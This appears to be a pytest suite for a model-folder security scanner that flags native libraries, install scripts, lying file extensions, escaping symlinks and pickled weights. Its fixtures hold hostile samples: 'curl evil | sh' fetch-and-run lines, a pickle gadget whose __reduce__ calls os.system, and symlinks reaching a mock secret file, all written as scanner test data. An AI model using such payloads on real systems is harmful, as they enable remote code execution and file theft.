"""The file-level inventory check: executables, scripts, lying extensions, escaping links."""

from __future__ import annotations

import os
import pickle
import struct
from pathlib import Path

from modelaudit.findings import Severity
from modelaudit.static.base import StaticContext, run_static_checks
from modelaudit.static.inventory import check_files
from modelaudit.target import ReadLimits, inventory


def _rules(folder: Path) -> dict[str, set[str]]:
    ctx = StaticContext(root=folder, files=inventory(folder))
    found: dict[str, set[str]] = {}
    for f in check_files(ctx):
        found.setdefault(f.rule_id, set()).add(f.location.path or "")
    return found


def _st() -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return struct.pack("<Q", len(header)) + header + b"\x00" * 4


def test_benign_model_folder_has_no_file_findings(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_st())
    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
    (tmp_path / "README.md").write_text("# card\n")
    (tmp_path / "modeling_x.py").write_text("import torch\n")
    assert _rules(tmp_path) == {}


def test_malicious_files_are_flagged(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_st())
    (tmp_path / "libhook.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 64)
    (tmp_path / "setup.sh").write_text("curl evil | sh\n")
    (tmp_path / "postinstall").write_text("#!/bin/bash\ncurl evil | sh\n")  # no extension: the shebang tells
    (tmp_path / "weights.gguf").write_bytes(pickle.dumps({"x": 1}, protocol=2))
    (tmp_path / "config.json").write_text("not json at all")
    outside = tmp_path.parent / f"{tmp_path.name}-secret"
    outside.write_text("secret")
    os.symlink(outside, tmp_path / "tokenizer.model")
    found = _rules(tmp_path)
    assert found["static.files.native-code"] == {"libhook.so"}
    assert found["static.files.script"] == {"setup.sh", "postinstall"}
    assert found["static.files.extension-mismatch"] == {"weights.gguf", "config.json"}
    assert found["static.files.symlink-escape"] == {"tokenizer.model"}


def test_pickle_only_weights_is_low_severity_advice(tmp_path: Path) -> None:
    (tmp_path / "pytorch_model.bin").write_bytes(pickle.dumps({"w": [1.0]}, protocol=2))
    ctx = StaticContext(root=tmp_path, files=inventory(tmp_path))
    findings = list(check_files(ctx))
    assert [(f.rule_id, f.severity.value) for f in findings] == [("static.files.pickle-only-weights", "low")]


class _Reduce:
    """Serialising this runs nothing; unpickling it would call os.system."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("touch /nonexistent-canary",))


def test_links_out_of_the_folder_are_reported_and_no_check_reads_them(tmp_path: Path) -> None:
    """model.safetensors -> a host file: no check may print its first bytes as a header length."""
    secret = tmp_path / "shadow"
    secret.write_bytes(b"SECRET!!" + b"{" + b"x" * 200)
    evil = tmp_path / "evil.pkl"
    evil.write_bytes(pickle.dumps(_Reduce(), protocol=2))
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text('{"model_type": "llama"}')
    os.symlink(secret, model / "model.safetensors")
    os.symlink(evil, model / "pytorch_model.bin")
    os.symlink(secret, model / "README.md")
    result = run_static_checks(StaticContext(root=model, files=inventory(model)))
    assert result.errors == []
    linked = {"model.safetensors", "pytorch_model.bin", "README.md"}
    about_links = [(f.rule_id, f.severity) for f in result.findings if f.location.path in linked]
    assert sorted(about_links) == [("static.files.symlink-escape", Severity.CRITICAL)] * 3
    (declared,) = struct.unpack("<Q", b"SECRET!!")
    assert not any(str(declared) in f.message or "SECRET" in f.message for f in result.findings)


def test_dangling_and_looping_links_are_named(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_st())
    os.symlink("gone.json", tmp_path / "tokenizer.json")
    os.symlink("loop.bin", tmp_path / "loop.bin")
    found = _rules(tmp_path)
    assert found == {"static.files.broken-link": {"tokenizer.json", "loop.bin"}}


def test_file_over_the_hash_limit_is_a_finding_naming_the_limit(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_st())
    with open(tmp_path / "blob.bin", "wb") as fh:
        fh.truncate(1 << 30)
    ctx = StaticContext(root=tmp_path, files=inventory(tmp_path, limits=ReadLimits(max_hash_bytes_per_file=1 << 20)))
    findings = [f for f in check_files(ctx) if f.rule_id == "static.files.not-hashed"]
    assert [(f.location.path, f.severity) for f in findings] == [("blob.bin", Severity.MEDIUM)]
    assert "max_hash_bytes_per_file" in findings[0].message
